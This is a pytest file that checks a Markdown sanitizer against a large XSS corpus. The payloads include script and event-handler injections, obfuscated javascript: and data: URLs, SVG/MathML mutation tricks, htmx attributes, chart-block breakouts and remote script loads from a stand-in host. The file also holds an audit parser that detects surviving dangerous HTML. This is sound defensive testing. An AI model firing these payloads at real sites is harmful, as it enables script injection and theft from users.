"""The one Markdown sanitizer (core.markdown.render_markdown) against an XSS corpus.

Every payload is rendered on its own and the HTML is read back with the
standard library's html.parser (not with anything the product uses). Nothing
may survive that could run script, load a frame or plugin, post a form, move
the base URL, refresh the page, carry inline style, or wake htmx up:

- no script/iframe/object/embed/form/base/meta/style/link element (nor the
  other raw-text, foreign-content or plugin elements that mutation XSS plays with),
- no attribute named on*, style, hx-* or data-hx-*,
- every URL attribute is http(s), mailto or relative without a scheme, read
  the way a browser reads it: entities decoded (html.parser does that), tab
  and newline removed anywhere, whitespace and control characters stripped
  at both ends (WHATWG URL parser), compared case-insensitively,
- an img loads only from http(s) or this site ("/..."),
- every external link carries rel="nofollow noopener noreferrer".

tests/browser/test_xss.py loads the same PAYLOADS in Chromium through a
report, comments and a team intro.
"""

import re
from html.parser import HTMLParser

import pytest

from core.markdown import render_markdown

SVG_ONLOAD_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # <svg xmlns=... onload="alert(1)"/>
SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# A chart block whose runs, keys and options try to break out of the chart HTML,
# which is the one piece of markup added after sanitizing. tests/browser/test_xss.py
# creates the run xss/r1 (with a hostile name and metric key) so the report page
# draws a live chart from it.
CHART_PAYLOAD = (
    "```chart\n"
    'runs: xss/r1, xss/"><script>alert(1)</script>, xss/r1\' onmouseover=\'alert(1)\n'
    'keys: loss, "><script>alert(1)</script>, <img src=x onerror=alert(1)>, a" onmouseover="alert(1)\n'
    'x: time" onmouseover="alert(1)\n'
    "smoothing: 0.5\n"
    "log: true\n"
    "```"
)

PAYLOADS = [
    # --- raw HTML: script and event handlers ----------------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" onload="alert(2)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    '<img src="https://example.com/ok.png" onerror="alert(1)" style="width:9999px">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    '<input type="checkbox" autofocus onfocus=alert(1) checked>',
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://example.com/" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    '<span class="x" id="y" onpointerenter=alert(1)>x</span>',
    '<div class="codehilite" data-chart data-runs="[]" data-keys="x">spoofed chart</div>',
    '<button formaction="javascript:alert(1)">x</button>',
    # --- SVG and MathML --------------------------------------------------------------------
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{SVG_ONLOAD_B64}#x"></use></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # --- mutation XSS, comments, templates ---------------------------------------------------
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><script>alert(1)</script>",
    "</p></div></article><img src=x onerror=alert(1)>",
    # --- URL schemes in raw HTML ---------------------------------------------------------------
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href=" &#x20; javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    f'<a href="data:text/html;base64,{SCRIPT_B64}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    f'<img src="data:image/svg+xml;base64,{SVG_ONLOAD_B64}">',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:image/svg+xml;base64,{SVG_ONLOAD_B64}">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    # --- htmx attributes ---------------------------------------------------------------------
    '<a hx-get="/x" hx-trigger="load">x</a>',
    '<div data-hx-post="/api/x" data-hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)" hx-on::load="alert(1)">x</div>',
    "<div hx-get=\"/\" hx-trigger=\"load\" hx-vals='js:{a: alert(1)}' hx-swap=\"outerHTML\">x</div>",
    '<div hx-enable hx-boost="true"><a href="/x">x</a></div>',
    # --- Markdown links, images, references, autolinks ------------------------------------------
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x]( javascript:alert(1) "title")',
    f"[x](data:text/html;base64,{SCRIPT_B64})",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{SVG_ONLOAD_B64})",
    '![x" onerror="alert(1)](https://example.com/x.png)',
    '![x](https://example.com/x.png" onerror="alert(1))',
    '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
    "[x](https://example.com/\"><img src=x onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x][img]\n\n[img]: javascript:alert(1)",
    f'[x][2]\n\n[2]: data:text/html;base64,{SCRIPT_B64} "t"',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # --- Markdown extensions (extra: attr_list, abbr, footnotes, tables, md_in_html; toc) ---------
    '# Heading {: onclick="alert(1)" style="color:red" hx-get="/x" }',
    '[x](https://example.com){: onmouseover="alert(1)" data-hx-get="/x" }',
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    '<div markdown="1">[x](javascript:alert(1)) <img src=x onerror=alert(1)></div>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] <svg onload=alert(1)>",
    '[TOC]\n\n# "><img src=x onerror=alert(1)>',
    # --- code must stay text ---------------------------------------------------------------------
    "`<script>alert(1)</script>`",
    "```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '    <iframe src="javascript:alert(1)"></iframe>',
    # --- the chart block: inserted after sanitizing ----------------------------------------------
    CHART_PAYLOAD,
    CHART_PAYLOAD.replace("\n", "\r\n").replace("xss/r1,", "xss/r1\r,"),  # as a browser form sends it
    'TSCHARTBLOCK0END\n\n<abbr title="<p>TSCHARTBLOCK0END</p>">a</abbr>\n\n```chart\nruns: a/b\nkeys: k"><img src=x onerror=alert(1)>\n```',
    # --- last (from SWALLOWING_FROM on): constructs that swallow what follows them when payloads are -
    # --- joined into one text, so that every payload before them still reaches the page on its own --
    "<body onload=alert(1)>",
    '```"><script>alert(1)</script>\nx = 1\n```',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"',
    "<script>alert(1)",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea autofocus onfocus=alert(1)><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)>",
    "<iframe><img src=x onerror=alert(1)>",
    "<!-- <img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "```\n<img src=x onerror=alert(1)>",
]

SWALLOWING_FROM = PAYLOADS.index("<body onload=alert(1)>")
FOLLOWER = "SENTINEL [ok](https://ok.example/) ![i](https://ok.example/i.png)\n\n```\nfenced\n```"

# Payloads whose HTML must come out as visible code text.
STAYS_TEXT = {
    "`<script>alert(1)</script>`": "<script>alert(1)</script>",
    "```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```": "<img src=x onerror=alert(1)>\n<script>alert(1)</script>",
    '    <iframe src="javascript:alert(1)"></iframe>': '<iframe src="javascript:alert(1)"></iframe>',
    '```"><script>alert(1)</script>\nx = 1\n```': '"><script>alert(1)</script>\nx = 1',
}

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param", "form", "button", "select",
    "option", "textarea", "base", "meta", "style", "link", "svg", "math", "template", "noscript", "noembed",
    "noframes", "xmp", "plaintext", "title", "video", "audio", "source", "portal", "marquee", "html", "head", "body",
}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "background", "data", "cite", "srcset",
    "longdesc", "ping", "manifest", "codebase", "dynsrc", "lowsrc", "srcdoc",
}
ALLOWED_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
NEEDED_REL = {"nofollow", "noopener", "noreferrer"}


def browser_url(value):
    """The URL as a browser's URL parser starts from it (the value is already entity-decoded)."""
    value = re.sub(r"[\t\n\r]", "", value)
    return value.strip("".join(chr(c) for c in range(0x21)) + "\x7f")


def url_scheme(value):
    match = SCHEME.match(browser_url(value))
    return match.group(1).lower() if match else None


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.code_text = []
        self._code_depth = 0

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs)
        if tag in ("code", "pre"):
            self._code_depth += 1

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)

    def handle_endtag(self, tag):
        if tag in ("code", "pre") and self._code_depth:
            self._code_depth -= 1

    def handle_data(self, data):
        if self._code_depth:
            self.code_text.append(data)

    def handle_comment(self, data):
        self.problems.append(f"an HTML comment survived: <!--{data}-->")

    def handle_decl(self, decl):
        self.problems.append(f"a declaration survived: <!{decl}>")

    def handle_pi(self, data):
        self.problems.append(f"a processing instruction survived: <?{data}>")

    def unknown_decl(self, data):
        self.problems.append(f"a marked section survived: <![{data}]>")

    def _element(self, tag, attrs):
        where = f"<{tag}{''.join(f' {n}={v!r}' for n, v in attrs)}>"
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden element {where}")
        values = {}
        for name, value in attrs:
            name = name.lower()
            value = value or ""
            values[name] = value
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name} in {where}")
            if name == "style":
                self.problems.append(f"style attribute in {where}")
            if name.startswith(("hx-", "data-hx-")):
                self.problems.append(f"htmx attribute {name} in {where}")
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in ALLOWED_SCHEMES:
                    self.problems.append(f"dangerous URL ({scheme}:) in {name} of {where}")
        if tag == "img" and "src" in values:
            if not browser_url(values["src"]).lower().startswith(("http://", "https://", "/")):
                self.problems.append(f"image not from http(s) or this site: {where}")
        if tag == "a" and "href" in values:
            url = browser_url(values["href"]).lower()
            external = url_scheme(url) in ("http", "https") or url.startswith(("//", "\\\\", "/\\", "\\/"))
            if external and not NEEDED_REL <= set(values.get("rel", "").lower().split()):
                self.problems.append(f'external link without rel="nofollow noopener noreferrer": {where}')


def audit(html):
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser


def hostile_charts(spec):
    """A chart resolver whose answers are as hostile as the spec: one missing run, one with poisoned fields."""
    poisoned = {
        "id": '"><script>alert(1)</script>',
        "name": "<img src=x onerror=alert(1)>",
        "color": 'red" onmouseover="alert(1)',
        "history": "javascript:alert(1)",
        "system": "/x'><svg onload=alert(1)>",
        "shown": True,
    }
    return [None] + [dict(poisoned) for _ in spec["runs"][1:]]


def _payload_id(payload):
    return re.sub(r"\W+", "_", payload)[:40].strip("_") or "payload"


IDS = [f"{n:03d}-{_payload_id(p)}" for n, p in enumerate(PAYLOADS)]


# --- The corpus itself ------------------------------------------------------------------------


def test_corpus_is_large_and_distinct():
    assert len(PAYLOADS) >= 70
    assert len(set(PAYLOADS)) == len(PAYLOADS), "duplicate payloads in the corpus"
    assert set(STAYS_TEXT) <= set(PAYLOADS)


@pytest.mark.parametrize(
    "html, problem",
    [
        ('<img src=x onerror="alert(1)">', "event handler"),
        ('<p style="color:red">x</p>', "style attribute"),
        ('<a data-hx-get="/x">x</a>', "htmx attribute"),
        ('<a href="java&#9;script:alert(1)" rel="nofollow noopener noreferrer">x</a>', "dangerous URL (javascript:)"),
        ('<a href=" &#1;JAVASCRIPT:alert(1)" rel="nofollow noopener noreferrer">x</a>', "dangerous URL (javascript:)"),
        ('<img src="data:image/png;base64,AAAA">', "dangerous URL (data:)"),
        ('<img src="x.png">', "image not from http(s)"),
        ('<a href="https://example.com/">x</a>', "external link without rel"),
        ('<a href="//example.com/" rel="nofollow">x</a>', "external link without rel"),
        ("<svg><script>alert(1)</script></svg>", "forbidden element <svg"),
        ("<!-- x -->", "HTML comment"),
    ],
)
def test_the_audit_itself_catches_what_it_looks_for(html, problem):
    assert any(problem in found for found in audit(html).problems), audit(html).problems


def test_the_audit_accepts_safe_html():
    html = (
        '<p><a href="https://example.com/" rel="nofollow noopener noreferrer">x</a> <a href="#top">t</a> '
        '<a href="mailto:a@example.com" rel="nofollow noopener noreferrer">m</a> <a href="/team/">r</a> '
        '<img src="https://example.com/a.png" alt="a"> <img src="/static/b.png"> '
        '<a href="java   script:alert(1)">a space is no scheme, the browser resolves this relative</a></p>'
    )
    assert audit(html).problems == []


# --- Every payload, rendered on its own ---------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_payload_is_neutralised(payload):
    html = render_markdown(payload)
    assert audit(html).problems == [], f"{payload!r} rendered as:\n{html}"


@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_payload_is_neutralised_with_live_charts(payload):
    html = render_markdown(payload, charts=hostile_charts)
    assert audit(html).problems == [], f"{payload!r} rendered as:\n{html}"


def test_all_payloads_together():
    for charts in (None, hostile_charts):
        html = render_markdown("\n\n".join(PAYLOADS), charts=charts)
        assert audit(html).problems == []


@pytest.mark.parametrize("payload", PAYLOADS[:SWALLOWING_FROM], ids=IDS[:SWALLOWING_FROM])
def test_payload_leaves_what_follows_it_alone(payload):
    """So the joined corpus in the browser test really puts each of these payloads on the page."""
    assert_follower_intact(render_markdown(payload + "\n\n" + FOLLOWER))


def test_joined_corpus_reaches_its_end():
    html = render_markdown("\n\n".join(PAYLOADS[:SWALLOWING_FROM] + [FOLLOWER]), charts=hostile_charts)
    assert 'class="chart" data-chart' in html
    assert_follower_intact(html)


def assert_follower_intact(html):
    assert '<a href="https://ok.example/" rel="nofollow noopener noreferrer">ok</a>' in html, html
    assert '<img alt="i" src="https://ok.example/i.png">' in html, html
    assert "<code>fenced\n</code>" in html, html


@pytest.mark.parametrize("payload", list(STAYS_TEXT), ids=[_payload_id(p) for p in STAYS_TEXT])
def test_html_in_code_stays_text(payload):
    html = render_markdown(payload)
    shown = "".join(audit(html).code_text)
    assert STAYS_TEXT[payload] in shown, f"{payload!r} rendered as:\n{html}"


def test_chart_block_is_escaped_after_sanitizing():
    html = render_markdown(CHART_PAYLOAD, charts=hostile_charts)
    assert 'class="chart" data-chart' in html  # the live chart is really inserted
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;" in html and "&quot;" in html


# --- What must still work ------------------------------------------------------------------------


def test_linked_badge_renders_as_a_linked_image():
    html = render_markdown("[![Twitter](https://img.shields.io/twitter/follow/x?style=social)](https://twitter.com/x)")
    parser = audit(html)
    assert parser.problems == []
    match = re.search(r"<a ([^>]*)>\s*<img ([^>]*)>\s*</a>", html)
    assert match, html
    link, image = match.groups()
    assert 'href="https://twitter.com/x"' in link
    assert 'rel="nofollow noopener noreferrer"' in link
    assert 'src="https://img.shields.io/twitter/follow/x?style=social"' in image
    assert 'alt="Twitter"' in image


def test_safe_links_and_images_survive():
    html = render_markdown(
        "[site](https://example.com/a?b=1) [mail](mailto:a@example.com) [here](/vision/reports/) "
        "![pic](https://example.com/p.png) ![local](/static/p.png)"
    )
    assert audit(html).problems == []
    for fragment in (
        'href="https://example.com/a?b=1"', 'href="mailto:a@example.com"', 'href="/vision/reports/"',
        'src="https://example.com/p.png"', 'src="/static/p.png"',
    ):
        assert fragment in html, html


def test_no_user_written_input_survives_only_task_checkboxes():
    html = render_markdown("- [x] done\n\n<input autofocus onfocus=alert(1)> <input type=checkbox checked>")
    assert html.count("<input") == 1 and 'type="checkbox" disabled checked' in html


def test_protocol_relative_images_are_dropped():
    assert "evil.com" not in render_markdown("![x](//evil.com/a.png)")
